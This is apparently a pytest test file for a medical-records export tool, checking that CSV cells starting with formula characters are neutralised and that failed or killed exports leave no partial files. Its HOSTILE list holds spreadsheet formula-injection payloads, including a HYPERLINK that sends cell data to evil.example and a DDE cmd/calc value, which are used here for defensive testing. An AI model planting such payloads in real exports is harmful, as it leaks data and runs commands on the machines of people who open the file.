"""Safe exports: spreadsheet-proof CSV cells, lossless lists, BOM and text identifiers,
and files that appear only when complete (a killed export leaves nothing)."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import textwrap
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import IO, Any

import pytest

from medreview.errors import InternalError
from medreview.export import FORMATS, ExportOptions
from medreview.export.csv_export import neutralise, read_rows
from medreview.ingest import ingest
from medreview.progress import Progress
from medreview.store import Status, Store
from medreview.store.records import DocumentRecord
from tests.accounts import add_people
from tests.store.fakes import PATIENT_DETAILS, fake_extract, write_scan

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'quoted already",
]


@pytest.fixture
def sqlite_store(tmp_path: Path) -> Iterator[Store]:
    with Store.open(f"sqlite:///{tmp_path / 's.sqlite3'}", files_root=tmp_path / "f") as store:
        add_people(store)
        yield store


def _verified(store: Store, tmp_path: Path, edits: dict[str, Any]) -> dict[str, Any]:
    fields = {**PATIENT_DETAILS, "policy_number": "0042007", "medical_problems": ["Asthma"]}
    write_scan(tmp_path / "pd.png", "patient_details", fields)
    ingest(store, [tmp_path / "pd.png"], "b", workers=0, extract=fake_extract)
    doc = store.claim_next("alice", "b")
    assert doc is not None
    for name, value in edits.items():
        store.save_edit(doc.id, "alice", name, value)
    store.submit(doc.id, "alice")
    return store.load_document(doc.id).final_values()


def test_formula_cells_are_neutralised_and_read_back(sqlite_store: Store, tmp_path: Path) -> None:
    finals = _verified(
        sqlite_store,
        tmp_path,
        {
            "patient_name": HOSTILE[0],
            "address": HOSTILE[1],
            "insurance_company": HOSTILE[3],
            "emergency_contact_name": HOSTILE[6],
            "allergies": HOSTILE,
            "regular_medication": [],  # an empty list, told apart from a missing field
            "insurance_address": None,
        },
    )
    for lists in ("json", "joined"):
        options = ExportOptions(csv_lists=lists)  # type: ignore[arg-type]
        out = tmp_path / f"{lists}.csv"
        sqlite_store.export("b", "csv", out, user="sue", options=options)
        text = out.read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
        (row,) = read_rows(out, options)
        if lists == "json":
            assert {name: row.get(name) for name in finals} == finals
            assert row["regular_medication"] == []
        else:
            assert row["patient_name"] == HOSTILE[0]
            assert row["allergies"] == HOSTILE
            assert "regular_medication" not in row  # joined: an empty list reads as missing
        assert "insurance_address" not in row


def test_neutralise_only_touches_formula_starts() -> None:
    assert neutralise("Asthma") == "Asthma"
    assert neutralise("") == ""
    assert neutralise("a=b") == "a=b"
    for cell in HOSTILE:
        assert neutralise(cell) == f"'{cell}"


def test_bom_and_identifiers_as_text(sqlite_store: Store, tmp_path: Path) -> None:
    _verified(sqlite_store, tmp_path, {})
    plain = tmp_path / "plain.csv"
    sqlite_store.export("b", "csv", plain, user="sue")
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    options = ExportOptions(csv_bom=True, csv_text_ids=True)
    excel = tmp_path / "excel.csv"
    sqlite_store.export("b", "csv", excel, user="sue", options=options)
    raw = excel.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    assert b'"=""0042007"""' in raw  # ="0042007": a text constant, leading zeros kept
    (row,) = read_rows(excel, options)
    assert row["policy_number"] == "0042007"
    assert len(str(row["source_sha256"])) == 64


def _failing_writer(
    records: Sequence[DocumentRecord], out: IO[bytes], progress: Progress, options: ExportOptions
) -> None:
    out.write(b"half of the patient data")
    raise InternalError("the writer failed half-way")


def test_a_failed_export_leaves_nothing_and_marks_nothing(
    sqlite_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _verified(sqlite_store, tmp_path, {})
    monkeypatch.setitem(FORMATS, "boom", f"{__name__}:_failing_writer")
    folder = tmp_path / "out"
    folder.mkdir()
    with pytest.raises(InternalError):
        sqlite_store.export("b", "boom", folder / "x.csv", user="sue")
    assert list(folder.iterdir()) == []
    assert sqlite_store.batch("b").counts[Status.VERIFIED] == 1


_KILLED_WRITER = """
import sys, time
from pathlib import Path
import medreview.export as export
if sys.argv[2] == "named":
    export._anonymous_file = lambda folder: None  # a file system without O_TMPFILE
with export.atomic_output(Path(sys.argv[1])) as handle:
    handle.write(b"Helen Okafor " * 10000)
    handle.flush()
    print("writing", flush=True)
    time.sleep(120)
"""


@pytest.mark.parametrize("kind", ["anonymous", "named"])
def test_a_killed_export_leaves_nothing(tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "batch.csv"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    with subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(_KILLED_WRITER), str(target), kind],
        stdout=subprocess.PIPE,
        text=True,
        env=env,
    ) as writer:
        assert writer.stdout is not None
        assert writer.stdout.readline().strip() == "writing"
        visible = sorted(p.name for p in folder.iterdir())
        writer.send_signal(signal.SIGKILL)
        writer.wait()
    if kind == "anonymous":
        assert visible == []  # not even while writing: the file has no name yet
        assert list(folder.iterdir()) == []
        return
    assert len(visible) == 1 and visible[0].startswith(".batch.csv.")
    # The next export to the same place removes what the killed one left.
    from medreview.export import atomic_output

    with atomic_output(target) as handle:
        handle.write(b"complete")
    assert sorted(p.name for p in folder.iterdir()) == ["batch.csv"]
    assert target.read_bytes() == b"complete"
    assert oct(target.stat().st_mode & 0o777) == "0o600"
